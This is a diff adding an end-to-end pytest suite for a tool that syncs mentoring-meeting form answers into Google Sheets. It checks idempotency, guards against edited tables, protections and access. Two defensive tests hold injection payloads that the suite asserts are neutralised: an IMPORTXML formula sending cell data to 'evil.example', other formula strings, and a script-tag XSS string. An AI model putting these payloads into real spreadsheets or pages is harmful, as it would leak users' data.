@@ -1,0 +1,385 @@
+"""The main job, end to end, through the real client libraries and the form's page."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sync import lockfile
+from sync.errors import ConfigurationError, GoogleError, Refused, SyncError
+from sync.roster import add
+from templates.mending import skeleton
+from templates.workbook import serial
+from tests.conftest import ADMIN, COORDINATOR, TODAY, Program
+
+
+def test_an_answer_becomes_a_line_in_log_and_a_status(program: Program) -> None:
+    """A mentor logs a meeting on the page; the run counts it and writes it down."""
+    said = program.log("ana@westbrook.example", "WES-1 Ana & Sam", kind="one-on-one", day="2026-11-19", minutes=30)
+    assert "recorded" in said
+    result, calls = program.run()
+    assert (len(result.new), result.counted, result.changed) == (1, 1, {"WES"})
+    assert calls["sheets.write"] == 1
+    assert program.row("log", "WES-1", "pair") | {"Code": ""} == {
+        **dict.fromkeys(program.values("log")[0], ""),
+        "When": serial(date(2026, 11, 19)),
+        "Pair": "WES-1 Ana Diaz & Sam Lee",
+        "What happened": "one-on-one",
+        "Minutes": 30,
+        "Counted": "yes",
+        "Sent": pytest.approx(serial(date(2026, 11, 20)) + 15 / 24, abs=0.01),
+        "Sent by": "mentor",
+        "Number": 1,
+    }
+    status = program.row("status", "WES-1", "pair")
+    assert (status["Status"], status["Last met"]) == ("Check in", serial(date(2026, 11, 19)))
+    assert program.row("pairs", "WES-1", "label")["Status"] == "Check in"
+
+
+def test_a_second_run_writes_nothing(program: Program) -> None:
+    """Law 2, for runs: also on a fresh state, which learns from the sheet what stands there."""
+    program.log(
+        "ana@westbrook.example", "WES-1", kind="brief conversation", day="2026-11-19", minutes=10, conversations=3
+    )
+    program.run()
+    again, calls = program.run()
+    assert (again.changed, calls["sheets.write"], calls["forms.write"], calls["drive.write"]) == (set(), 0, 0, 0)
+    program.settings.state_path.unlink()
+    cold, calls = program.run()
+    assert (cold.changed, calls["sheets.write"], len(cold.new)) == (set(), 0, 1)
+
+
+def test_a_second_provision_writes_nothing(unprovisioned: Program) -> None:
+    """Law 2, for provision: right after the first, and after runs and people have been at work."""
+    program = unprovisioned
+    first, _ = program.provision()
+    assert len(first.made) == 3
+    for busy in (False, True):
+        if busy:
+            _a_day_of_work(program)
+        again, calls = program.provision()
+        assert (again.made, again.mended) == ([], [])
+        assert sum(n for kind, n in calls.items() if kind.endswith("write")) == 0
+
+
+def _a_day_of_work(program: Program) -> None:
+    for label in ("WES-1", "WES-2"):
+        program.log("ana@westbrook.example", label, kind="one-on-one", day="2026-11-19", minutes=30)
+    program.run()
+    pairs, observations = program.layout.tab("pairs"), program.layout.tab("observations")
+    area = {"sheetId": pairs.id, "startRowIndex": 1, "endRowIndex": 9, "startColumnIndex": 0, "endColumnIndex": 20}
+    program.edit(
+        {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}]}}, who=ADMIN
+    )
+    rows = {"sheetId": observations.id, "dimension": "COLUMNS", "startIndex": 3, "endIndex": 4}
+    program.edit(
+        {"updateSheetProperties": {"properties": {"sheetId": pairs.id, "title": "Our pairs"}, "fields": "title"}},
+        {"moveDimension": {"source": rows, "destinationIndex": 8}},
+        who=ADMIN,
+    )
+    program.run()
+
+
+def peoples_cells(program: Program) -> dict[str, list[list[str]]]:
+    """Every cell of the people's tabs as entered; a formula without its references, which Google moves along."""
+    tabs = {t.key: program.values(t.key, formulas=True) for t in program.layout.people}
+    return {key: [[skeleton(str(c)) for c in row] for row in grid] for key, grid in tabs.items()}
+
+
+def test_no_run_changes_a_peoples_tab(program: Program) -> None:
+    """Law 4: whatever people typed, also between runs, every cell of theirs is as they left it."""
+    program.type("follow_up", 2, "agreed", "call on Friday")
+    program.type("pairs", 5, "mentor", "Half A Pair")
+    for day in (TODAY, TODAY + timedelta(days=1)):
+        program.type("calendar", 40, "note", f"a note of {day}")
+        before = peoples_cells(program)
+        program.log("ana@westbrook.example", "WES-2", kind="one-on-one", day="2026-11-18", minutes=30)
+        assert program.run(day)[0].changed == {"WES"}
+        assert peoples_cells(program) == before
+
+
+EVIL = '=IMPORTXML("http://evil.example/?"&A1,"//x")'
+
+
+def test_text_from_strangers_is_stored_as_text(program: Program) -> None:
+    """Law 5: formulas in a name, a code, a group or an address run nowhere and are shown as typed."""
+    program.type("pairs", 5, "mentor", EVIL)
+    program.type("pairs", 5, "mentee", "+1+1")
+    program.type("pairs", 5, "mentor_email", "=cmd@evil.example")
+    program.log("=x@evil.example", EVIL, kind="small group", day="2026-11-19", minutes=30, others="=1+1 @SUM(A1) 4")
+    program.log("ana@westbrook.example", "WES-4", kind="one-on-one", day="2026-11-18", minutes=30)
+    program.run()
+    status, log = program.layout.tab("status"), program.layout.tab("log")
+    for tab in (status, log):
+        strangers = {tab.place(c.key) for c in tab.value_columns}
+        for line in program.values(tab.key, formulas=True)[tab.header_row :]:
+            cells = [program_cell(program, tab.id, line, place) for place in strangers if place < len(line)]
+            assert all("formulaValue" not in c for c in cells)
+    assert program.row("status", "WES-4", "pair")["Pair"] == f"WES-4 {EVIL} & +1+1"
+    assert any(EVIL in str(c) for c in program.values("log")[1] + program.values("log")[2])
+
+
+def program_cell(program: Program, sheet_id: int, line: list[Any], place: int) -> dict[str, Any]:
+    """The stored cell behind a value that was read."""
+    tab = program.space.sheets.shelf.get(program.lock.sheets["WES"].id).tab(sheet_id)
+    for row in tab.rows.values():
+        entered = row.get(place, {}).get("userEnteredValue", {})
+        if line[place] in entered.values():
+            return dict(entered)
+    return {}
+
+
+def test_a_pages_text_is_escaped(program: Program) -> None:
+    """Law 5, for pages: a name that is markup is shown, not obeyed."""
+    import requests
+
+    program.type("pairs", 5, "mentor", "<script>alert(1)</script>")
+    page = requests.get(
+        program.lock.sheets["WES"].url.replace("edit", "edit?gid=103"), cookies={"identity": ADMIN}, timeout=30
+    )
+    link = program.lock.responder_uri + "?usp=pp_url&entry.705691649=%3Cscript%3E"
+    form = requests.get(link, cookies={"identity": ADMIN}, timeout=30)
+    assert "&lt;script&gt;alert" in page.text
+    assert "<script" not in page.text + form.text
+
+
+# -- the guard rails ------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def busy(program: Program) -> Program:
+    """A program in which every pair has met and a run has seen it."""
+    for number, who in ((1, "ana"), (2, "grace"), (3, "mei")):
+        program.log(f"{who}@westbrook.example", f"WES-{number}", kind="one-on-one", day="2026-11-19", minutes=30)
+    program.run()
+    return program
+
+
+def questions(program: Program) -> str:
+    return "\n".join(program.run()[0].standings[0].questions)
+
+
+def names(program: Program) -> dict[int, str]:
+    return {p.pair.number: p.pair.mentor.name for p in program.run()[0].standings[0].pairs}
+
+
+def test_a_new_pair_typed_over_an_old_one_is_asked_about(busy: Program) -> None:
+    busy.type("pairs", 3, "mentor", "New Mentor")
+    busy.type("pairs", 3, "mentee", "New Mentee")
+    assert "2 was Grace Okafor with Luis Silva, and now reads New Mentor with New Mentee" in questions(busy)
+    assert names(busy)[2] == "Grace Okafor"
+    assert "a correction, or a new pair?" in str(busy.values("status")[2][0])
+    busy.type("corrections", 2, "repair", "it is the same pair")
+    busy.type("corrections", 2, "to", 2)
+    assert (questions(busy), names(busy)[2]) == ("", "New Mentor")
+
+
+def test_a_corrected_spelling_is_taken(busy: Program) -> None:
+    busy.type("pairs", 3, "mentor", "Grace Okafor-Hill")
+    assert (questions(busy), names(busy)[2]) == ("", "Grace Okafor-Hill")
+
+
+def test_a_half_sorted_table_is_not_believed(busy: Program) -> None:
+    area = {"sheetId": 103, "startRowIndex": 1, "endRowIndex": 4, "startColumnIndex": 1, "endColumnIndex": 5}
+    busy.edit({"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 2}]}})
+    before = {1: "Ana Diaz", 2: "Grace Okafor", 3: "Mei Novak"}
+    assert names(busy) == before
+    assert "was half the table sorted?" in questions(busy)
+    area |= {"startColumnIndex": 1}
+    busy.edit({"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 1}]}})
+    assert (names(busy), questions(busy)) == (before, "")
+
+
+def test_a_wholly_sorted_table_is_fine(busy: Program) -> None:
+    area = {"sheetId": 103, "startRowIndex": 1, "endRowIndex": 9, "startColumnIndex": 0, "endColumnIndex": 20}
+    busy.edit(
+        {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}]}}, who=ADMIN
+    )
+    assert (names(busy)[1], questions(busy)) == ("Ana Diaz", "")
+    assert busy.row("pairs", "Ana Diaz", "mentor")["Pair"] == "WES-1 Ana Diaz & Sam Lee"
+
+
+def test_a_deleted_row_stays_listed(busy: Program) -> None:
+    rows = {"sheetId": 103, "dimension": "ROWS", "startIndex": 2, "endIndex": 3}
+    busy.edit({"deleteDimension": {"range": rows}}, who=ADMIN)
+    assert "WES-2 Grace Okafor & Luis Silva: the row is missing from Pairs" in questions(busy)
+    assert names(busy)[2] == "Grace Okafor"
+    busy.settings.state_path.unlink()
+    assert "the row is missing from Pairs" in questions(busy), "remembered from the sheet itself"
+
+
+def test_a_copied_row_is_asked_about(busy: Program) -> None:
+    source = {"sheetId": 103, "startRowIndex": 2, "endRowIndex": 3, "startColumnIndex": 0, "endColumnIndex": 20}
+    busy.edit(
+        {"copyPaste": {"source": source, "destination": source | {"startRowIndex": 6, "endRowIndex": 7}}}, who=ADMIN
+    )
+    assert "Number 2 stands in rows 3 and 7 of Pairs" in questions(busy)
+    assert names(busy)[2] == "Grace Okafor"
+
+
+def test_a_renamed_header_is_accepted_and_a_missing_one_is_named(busy: Program) -> None:
+    busy.type("pairs", 1, "mentor", "Coach", who=ADMIN)
+    assert (questions(busy), names(busy)[1]) == ("", "Ana Diaz")
+    columns = {"sheetId": 103, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 3}
+    busy.edit({"deleteDimension": {"range": columns}}, who=ADMIN)
+    assert "the column “Mentee” is missing" in questions(busy)
+    assert "the column “Mentor” is missing" in questions(busy), "with two gone, neither is a rename"
+    assert names(busy)[1] == "Ana Diaz"
+
+
+def test_a_deleted_tab_is_named_and_printed_again(busy: Program) -> None:
+    busy.edit({"deleteSheet": {"sheetId": 106}}, who=ADMIN)
+    assert "the tab Calendar: it was deleted" in questions(busy)
+    done, _ = busy.provision()
+    assert "Westbrook: the tab Calendar was printed again" in done.mended
+    assert questions(busy) == ""
+    assert busy.provision()[0].mended == []
+
+
+def test_a_coordinator_cannot_write_where_the_tool_writes(busy: Program) -> None:
+    for tab, column in (("status", "status"), ("pairs", "number"), ("pairs", "label"), ("log", "counted")):
+        with pytest.raises(GoogleError, match="protected cell"):
+            busy.type(tab, 6, column, "mine")
+
+
+def test_lost_formulas_headers_and_protection_are_mended(busy: Program) -> None:
+    for row, column in ((4, "label"), (1, "school")):
+        busy.type("pairs", row, column, "", who=ADMIN)
+    busy.edit({"deleteProtectedRange": {"protectedRangeId": 10300}}, who=ADMIN)
+    done, _ = busy.provision()
+    assert done.mended == [
+        "Westbrook: headers of Pairs",
+        "Westbrook: formulas of Pairs",
+        "Westbrook: protection of Pairs",
+    ]
+    assert busy.row("pairs", "Mei Novak", "mentor")["Pair"] == "WES-3 Mei Novak & Omar Patel"
+
+
+# -- files and accounts ---------------------------------------------------------------------------------------
+
+
+def test_what_was_provisioned_and_cannot_be_seen_is_refused(program: Program) -> None:
+    """A listed id that is gone is never replaced by a new creation."""
+    lock = program.lock
+    lock.form = "1" + "x" * 43
+    lock.save(program.settings.lock_path)
+    with pytest.raises(Refused, match="cannot be seen"):
+        program.provision()
+
+
+def test_a_lost_lock_file_finds_everything_again(program: Program) -> None:
+    """Files are found by the mark they were made with, never made twice."""
+    before = program.lock
+    program.settings.lock_path.unlink()
+    done, calls = program.provision()
+    assert (done.made, calls["drive.write"], calls["sheets.write"]) == ([], 0, 0)
+    assert (program.lock.form, program.lock.sheets["WES"].id) == (before.form, before.sheets["WES"].id)
+
+
+def test_new_pairs_take_the_next_free_numbers_once(program: Program, tmp_path: Path) -> None:
+    path = tmp_path / "WES.csv"
+    path.write_text("Mentor;Mentee;Starts\nZoë Brennan;João Costa;9/14/2026\nAna Diaz;Sam Lee;\n", encoding="cp1252")
+    assert add(program.settings, program.google(), path).codes == ("WES-4",)
+    assert add(program.settings, program.google(), path).codes == ()
+    assert program.row("pairs", "Zoë", "mentor")["Pair"] == "WES-4 Zoë Brennan & João Costa"
+    assert program.run()[0].standings[0].district.pairs[3].starts == date(2026, 9, 14)
+
+
+def test_a_roster_file_with_mistakes_makes_nothing(unprovisioned: Program) -> None:
+    """Every mistake is named with file, line, value and remedy before anything is sent to Google."""
+    program = unprovisioned
+    (program.folder / "rosters" / "WES.csv").write_text(
+        "Mentor,Mentee,Mentor e-mail,Starts,Ends\nAna,Sam,not an address,,\nAna,Sam,,2026-10-05,2026-09-01\n,Lone,,soon,\nAna,Sam,,,\n",
+        encoding="utf-8",
+    )
+    with pytest.raises(ConfigurationError) as caught:
+        program.provision()
+    said = str(caught.value)
+    for words in (
+        "line 2: 'not an address'",
+        "line 3: Ends (2026-09-01) is before",
+        "line 4: there is no mentor",
+        "line 4: Starts is 'soon'",
+        "line 5: Ana and Sam stand in line 2 already",
+    ):
+        assert words in said
+    assert program.space.store.db.execute("SELECT count(*) FROM files").fetchone() == (0,)
+
+
+def test_an_answer_of_no_district_is_kept_in_sight(unprovisioned: Program) -> None:
+    program = unprovisioned
+    folder = program.folder
+    rows = (folder / "districts.csv").read_text(encoding="utf-8")
+    second = "NOR,Northfield,,2026-08-31,2027-06-18,monthly,\n"
+    (folder / "districts.csv").write_text(rows + second, encoding="utf-8")
+    program.provision()
+    program.log("who@else.example", "XYZ-3", kind="one-on-one", day="2026-11-19", minutes=30)
+    program.log("ana@westbrook.example", "", kind="one-on-one", day="2026-11-19", minutes=30)
+    result, _ = program.run()
+    assert [a.pair_text for a in result.unplaced] == ["XYZ-3"]
+    assert (len(result.new), result.counted) == (2, 1)
+    assert len(program.run()[0].unplaced) == 1
+
+
+def test_a_sheet_that_is_gone_fails_alone(program: Program) -> None:
+    """One district's trouble is named; it is the only one here, so the command says it."""
+    lock = program.lock
+    lock.sheets["WES"] = replace(lock.sheets["WES"], id="1" + "y" * 43)
+    lock.save(program.settings.lock_path)
+    with pytest.raises(SyncError, match="not found"):
+        program.run()
+
+
+def test_a_write_whose_answer_was_lost_is_not_repeated(program: Program) -> None:
+    """The batch was applied and the connection died: the next run reads what stands there and doubles nothing."""
+    program.log("ana@westbrook.example", "WES-1", kind="one-on-one", day="2026-11-19", minutes=30)
+    applied = program.space.methods["sheets.spreadsheets.batchUpdate"]
+
+    def lose_the_answer(*args: Any, **kwargs: Any) -> Any:
+        applied(*args, **kwargs)
+        from workspace.errors import Refusal
+
+        raise Refusal(503, "The service is currently unavailable.")
+
+    program.space.methods["sheets.spreadsheets.batchUpdate"] = lose_the_answer
+    with pytest.raises(SyncError, match="run the same command again"):
+        program.run()
+    program.space.methods["sheets.spreadsheets.batchUpdate"] = applied
+    result, calls = program.run()
+    assert (result.changed, calls["sheets.write"]) == (set(), 0)
+    assert [row[2] for row in program.values("log")[1:]] == ["WES-1 Ana Diaz & Sam Lee"]
+
+
+def test_the_log_grows_by_what_is_new(program: Program) -> None:
+    """Newest first, each once, also when several come between two runs."""
+    for hour, day in enumerate((13, 11, 12, 9, 10)):
+        sent = datetime(2026, 11, 20, 12 + hour, tzinfo=UTC)
+        program.log(
+            "ana@westbrook.example", "WES-1", sent=sent, kind="one-on-one", day=f"2026-11-{day:02d}", minutes=30
+        )
+        if hour in (0, 2, 4):
+            program.run()
+    days = [row[1] for row in program.values("log")[1:]]
+    assert days == [serial(date(2026, 11, d)) for d in (10, 9, 12, 11, 13)]
+
+
+def test_who_sees_what(program: Program) -> None:
+    """The sheet opens for its coordinator; a mentor has the form and no more."""
+    sheet_id = program.lock.sheets["WES"].id
+    assert program.google(COORDINATOR).sheets.metadata(sheet_id)["properties"]["title"].startswith("Westbrook")
+    with pytest.raises(GoogleError):
+        program.google("ana@westbrook.example").sheets.metadata(sheet_id)
+
+
+def test_a_locked_program_says_who_must_end(program: Program) -> None:
+    from sync.errors import Busy
+    from sync.state import locked
+
+    path = program.folder / "state.lock"
+    with locked(path), pytest.raises(Busy, match="Another sync is running"), locked(path):
+        pass
+    assert lockfile.load(program.settings.lock_path).form
